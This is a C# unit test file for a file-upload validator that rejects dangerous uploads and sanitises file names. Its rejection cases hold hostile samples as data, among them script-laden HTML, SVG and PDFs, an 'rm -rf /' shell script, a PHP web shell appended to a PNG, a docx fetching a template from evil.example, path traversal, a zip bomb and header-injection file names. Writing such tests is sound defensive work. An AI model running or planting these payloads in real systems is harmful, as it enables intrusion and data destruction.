using ResidencyHub.Application.Cohorts.Requirements;
using ResidencyHub.Domain.Cohorts;
using static ResidencyHub.Application.Tests.Cohorts.Requirements.SampleFiles;

namespace ResidencyHub.Application.Tests.Cohorts.Requirements;

public sealed class FileContentTests
{
    public static TheoryData<string, byte[], FileKind> Good => new()
    {
        { "pdf", Pdf(), FileKind.Pdf },
        { "png", Png(), FileKind.Png },
        { "png with a comment", Png("scanned at the office"), FileKind.Png },
        { "jpeg", Jpeg(), FileKind.Jpeg },
        { "jpeg of a phone, which hangs a film on", [.. Jpeg(), 1, 2, 3, 4], FileKind.Jpeg },
        { "heic", Heic(), FileKind.Heic },
        { "docx", Docx(), FileKind.Word },
    };

    public static TheoryData<string, byte[]> Bad => new()
    {
        { "nothing", [] },
        { "a page", Text("<!DOCTYPE html><html><script>alert(1)</script></html>") },
        { "a drawing with a script", Text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>") },
        { "a program", [0x4D, 0x5A, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0] },
        { "a shell script", Text("#!/bin/sh\nrm -rf /") },
        { "an old Word file, whose macros nobody can see", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0] },
        { "a gif", Text("GIF89a/*alert(1)*/") },
        { "a page before a pdf", [.. Text("<script>alert(1)</script>\n"), .. Pdf()] },
        { "a pdf with a script", Pdf("1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj") },
        { "a pdf whose script is spelt with escapes", Pdf("1 0 obj << /S /J#61vaScript >> endobj") },
        { "a pdf that starts a program", Pdf("1 0 obj << /S /Launch >> endobj") },
        { "a pdf with a file inside", Pdf("1 0 obj << /Type /EmbeddedFile >> endobj") },
        { "a pdf with a page inside", Pdf("1 0 obj (<ScRiPt>x</script>) endobj") },
        { "half a pdf", Text("%PDF-1.7\n1 0 obj") },
        { "a pdf that is a zip as well", [.. Pdf(), .. Zip(("a.class", "x")), .. Text("%%EOF")] },
        { "a png with a script in its comment", Png("<script>alert(1)</script>") },
        { "a png with something hung on", [.. Png(), .. Text("<?php system($_GET['c']); ?>")] },
        { "a png that is a zip as well", [.. Png(), .. Zip(("a.class", "x"))] },
        { "a png cut off", Png()[..30] },
        { "a jpeg with a page in its comment", Jpeg("<html><script>x</script>") },
        { "a jpeg that is a zip as well", [.. Jpeg(), .. Zip(("a.class", "x"))] },
        { "only the sign of a jpeg", [0xFF, 0xD8, 0xFF, 0xE0] },
        { "a film", Heic("isom") },
        { "a heic with something hung on", [.. Heic(), 9, 9, 9] },
        { "any zip", Zip(("a.txt", "x")) },
        { "a spreadsheet", Zip(("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<x/>")) },
        { "a docx with macros", Docx(("word/vbaProject.bin", "x")) },
        { "a docx that calls itself macro enabled", Zip(("[Content_Types].xml", "application/vnd.ms-word.document.macroEnabled.main+xml"), ("word/document.xml", "<x/>")) },
        { "a docx with controls", Docx(("word/activeX/activeX1.xml", "x")) },
        { "a docx with a program inside", Docx(("word/embeddings/oleObject1.bin", "x")) },
        { "a docx that fetches its template", Docx(("word/_rels/settings.xml.rels", "<Relationship Type=\"…/attachedTemplate\" TargetMode=\"External\" Target=\"https://evil.example/t.dotm\"/>")) },
        { "a docx that climbs out", Docx(("../../etc/passwd", "x")) },
        { "a page before a docx", [.. Text("<html>"), .. Docx()] },
    };

    [Theory, MemberData(nameof(Good))]
    public void What_people_hand_in_is_known_by_its_content(string what, byte[] bytes, FileKind kind) => FileContent.Read(bytes).ShouldBe((kind, null), what);

    [Theory, MemberData(nameof(Bad))]
    public void What_could_be_run_or_read_as_something_else_is_refused_in_words(string what, byte[] bytes)
    {
        var (kind, refusal) = FileContent.Read(bytes);
        kind.ShouldBeNull(what);
        refusal.ShouldNotBeNullOrWhiteSpace();
    }

    [Fact]
    public void A_zip_that_unpacks_to_too_much_is_refused()
    {
        var part = new string('a', 60 * 1024 * 1024);
        FileContent.Read(Docx(("word/1.xml", part), ("word/2.xml", part), ("word/3.xml", part), ("word/4.xml", part))).Kind.ShouldBeNull();
    }

    [Theory]
    [InlineData("tb test.pdf", "tb test")]
    [InlineData("..\\..\\windows\\system32\\evil.exe", "evil")]
    [InlineData("../../etc/passwd", "passwd")]
    [InlineData("a\"; filename=\"b.html", "a filename=b")]
    [InlineData("photo\u202Egnp.exe", "photognp")]
    [InlineData("line\r\nSet-Cookie: x", "lineSet-Cookie x")]
    [InlineData(".htaccess", "file")]
    [InlineData("   ", "file")]
    [InlineData(null, "file")]
    public void A_name_is_only_shown_and_harms_nobody(string? name, string kept) => FileContent.CleanName(name).ShouldBe(kept);
}
